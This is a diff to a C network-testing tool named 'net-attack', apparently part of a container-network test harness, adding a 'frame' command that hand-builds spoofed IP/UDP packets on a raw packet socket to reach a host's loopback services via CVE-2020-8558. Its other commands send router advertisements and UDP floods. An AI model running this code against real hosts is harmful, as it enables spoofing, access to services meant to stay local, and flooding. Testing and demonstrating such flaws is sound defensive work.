@@ -15,8 +15,17 @@
  *       One DNS query for NAME to ADDR:PORT from source port 0 (a raw UDP
  *       socket: the kernel writes the IP header, this the UDP one). Needs
  *       CAP_NET_RAW.
+ *   net-attack frame IFNAME MAC SRC DST PORT MESSAGE
+ *       One UDP datagram SRC -> DST:PORT in a frame to MAC (the bridge's),
+ *       IP header and all written here, on a packet socket: any source, and
+ *       destinations the container's own routes would never send to the
+ *       bridge, such as 127.0.0.1 (CVE-2020-8558: a host that lets
+ *       127.0.0.0/8 in on a bridge delivers it to its own loopback
+ *       services). Needs CAP_NET_RAW.
  */
 #include <arpa/inet.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
 #include <errno.h>
 #include <net/if.h>
 #include <netinet/icmp6.h>
@@ -123,10 +132,39 @@ static int port0(const char *addr, int port, const char *name) {
   return 0;
 }
 
+static unsigned short ip_checksum(const unsigned char *h, int n) {
+  unsigned long sum = 0;
+  for (int i = 0; i < n; i += 2) sum += (h[i] << 8) | h[i + 1];
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  return ~sum & 0xffff;
+}
+
+static int frame(const char *ifname, const char *mac, const char *src, const char *dst, int port, const char *message) {
+  int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
+  if (s < 0) return perror("socket"), 1;
+  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(ifname), .sll_halen = 6};
+  if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to.sll_addr[0], &to.sll_addr[1], &to.sll_addr[2], &to.sll_addr[3], &to.sll_addr[4], &to.sll_addr[5]) != 6) return fprintf(stderr, "bad MAC\n"), 1;
+  unsigned char pkt[20 + 8 + 256] = {0};
+  size_t n = strlen(message) < 256 ? strlen(message) : 256;
+  unsigned short total = 20 + 8 + n;
+  pkt[0] = 0x45, pkt[2] = total >> 8, pkt[3] = total & 255, pkt[8] = 64, pkt[9] = IPPROTO_UDP;
+  if (inet_pton(AF_INET, src, pkt + 12) != 1 || inet_pton(AF_INET, dst, pkt + 16) != 1) return fprintf(stderr, "bad address\n"), 1;
+  unsigned short sum = ip_checksum(pkt, 20);
+  pkt[10] = sum >> 8, pkt[11] = sum & 255;
+  unsigned char *udp = pkt + 20;
+  udp[0] = 0x30, udp[1] = 0x39; /* source port 12345 */
+  udp[2] = port >> 8, udp[3] = port & 255, udp[4] = (8 + n) >> 8, udp[5] = (8 + n) & 255; /* checksum 0: none */
+  memcpy(udp + 8, message, n);
+  if (sendto(s, pkt, total, 0, (struct sockaddr *)&to, sizeof to) < 0) return perror("sendto"), 1;
+  printf("sent 1\n");
+  return 0;
+}
+
 int main(int argc, char **argv) {
+  if (argc == 8 && !strcmp(argv[1], "frame")) return frame(argv[2], argv[3], argv[4], argv[5], atoi(argv[6]), argv[7]);
   if (argc == 4 && !strcmp(argv[1], "ra")) return ra(argv[2], atoi(argv[3]));
   if (argc == 6 && !strcmp(argv[1], "flood")) return flood(argv[2], atoi(argv[3]), atol(argv[4]), atof(argv[5]));
   if (argc == 5 && !strcmp(argv[1], "port0")) return port0(argv[2], atoi(argv[3]), argv[4]);
-  fprintf(stderr, "usage: net-attack ra IFNAME SECONDS | flood ADDR PORT COUNT SECONDS | port0 ADDR PORT NAME\n");
+  fprintf(stderr, "usage: net-attack ra IFNAME SECONDS | flood ADDR PORT COUNT SECONDS | port0 ADDR PORT NAME | frame IFNAME MAC SRC DST PORT MESSAGE\n");
   return 2;
 }
